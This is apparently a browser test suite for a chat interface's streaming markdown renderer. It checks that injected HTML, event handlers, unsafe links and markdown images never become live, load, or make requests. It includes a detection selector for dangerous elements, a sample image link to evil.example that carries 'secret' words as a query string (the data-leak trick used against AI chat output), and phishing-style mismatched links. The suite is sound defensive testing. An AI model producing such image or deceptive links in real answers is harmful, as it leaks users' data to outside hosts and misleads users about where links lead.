//! Nothing dangerous is drawn at any moment, whatever an answer says.

import assert from 'node:assert/strict';
import { ATTACKS } from '../support/attacks.mjs';
import { answerState, browserTest, send, useBrowser } from '../support/browser.mjs';

useBrowser();

/** Runs in the page: looks at every moment of every attack, and at the end. */
async function dangers(attacks) {
  const { StreamRenderer } = await import('/js/md/stream.js');
  const events = [];
  document.addEventListener('securitypolicyviolation', (event) => events.push(event.violatedDirective));
  const forbidden =
    'script,img,svg,math,iframe,object,embed,form,input,button:not([data-action="copy-code"] ),style,link,base,meta,details,[id],[name],[style],[srcdoc],[formaction]';
  const found = [];
  const look = (root, text) => {
    for (const node of root.querySelectorAll(forbidden)) {
      if (!node.closest('.code-head')) found.push(`${text}: ${node.outerHTML}`);
    }
    for (const node of root.querySelectorAll('*')) {
      for (const { name } of node.attributes) if (name.startsWith('on')) found.push(`${text}: ${node.outerHTML}`);
      if (
        node.href !== undefined &&
        !/^(https?:|mailto:)/.test(node.getAttribute('href') ?? 'https:') &&
        !node.closest('svg')
      ) {
        found.push(`${text}: ${node.outerHTML}`);
      }
    }
  };
  for (const text of attacks) {
    for (const around of [text, `before\n\n${text}\n\nafter`, `- ${text}`, `> ${text}`, `**${text}`]) {
      const root = document.body.appendChild(document.createElement('div'));
      const renderer = new StreamRenderer(root);
      for (const sign of around) {
        renderer.push(sign);
        renderer.flush();
        look(root, around);
      }
      renderer.finish();
      look(root, around);
      for (const link of root.querySelectorAll('a'))
        if (link.rel !== 'noopener noreferrer nofollow') found.push(link.outerHTML);
      root.remove();
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { found: found.slice(0, 5), events, hacked: window.hacked };
}

browserTest('no attack is anything but text, in the open tail and settled; no policy violation', async ({ page }) => {
  assert.deepEqual(await page.evaluate(dangers, ATTACKS), { found: [], events: [], hacked: undefined });
});

browserTest('attacks in a real answer cause no request and no dialog', async ({ page, fake }) => {
  let dialogs = 0;
  page.on('dialog', (dialog) => (dialogs++, dialog.dismiss()));
  fake.onChat = async (stream) => {
    for (const text of ATTACKS) await stream.say(text, '\n\n');
    await stream.done();
  };
  const before = new Set(fake.requests.map(({ path }) => path));
  await send(page, ATTACKS.join('\n'));
  await answerState(page, 'done');
  await page.waitForTimeout(300);
  const known = /^\/(api|js|vendor|css|i18n)\//;
  assert.deepEqual(
    fake.requests.filter(({ path }) => !before.has(path) && !known.test(path)),
    [],
  );
  assert.equal(dialogs, 0);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
});

browserTest("a model's image is a link with its words, and is never loaded", async ({ page, fake }) => {
  fake.onChat = async (stream) => {
    await stream.say('Look: ![a cat](https://evil.example/cat.png?words=secret) fine');
    await stream.done();
  };
  await send(page, 'q');
  await answerState(page, 'done');
  const link = page.locator('.assistant .text a');
  assert.deepEqual(
    [await link.innerText(), await link.getAttribute('href')],
    ['a cat', 'https://evil.example/cat.png?words=secret'],
  );
  assert.equal(await page.locator('.assistant .text img').count(), 0);
});

browserTest('a link whose text is another address says where it leads', async ({ page, fake }) => {
  const links = [
    '[https://bank.example/login](https://evil.example/a)',
    '[bank.example](https://evil.example:8443)',
    '[www.bank.example](https://bank.example/x)',
    '[the manual](https://evil.example)',
    'https://bank.example/y',
  ];
  fake.onChat = async (stream) => {
    await stream.say(links.join('\n\n'));
    await stream.done();
  };
  await send(page, 'q');
  await answerState(page, 'done');
  await page.waitForSelector('.assistant .text a >> nth=4');
  assert.deepEqual(await page.locator('.assistant .text p').allInnerTexts(), [
    'https://bank.example/login (evil.example)',
    'bank.example (evil.example:8443)',
    'www.bank.example',
    'the manual',
    'https://bank.example/y',
  ]);
});
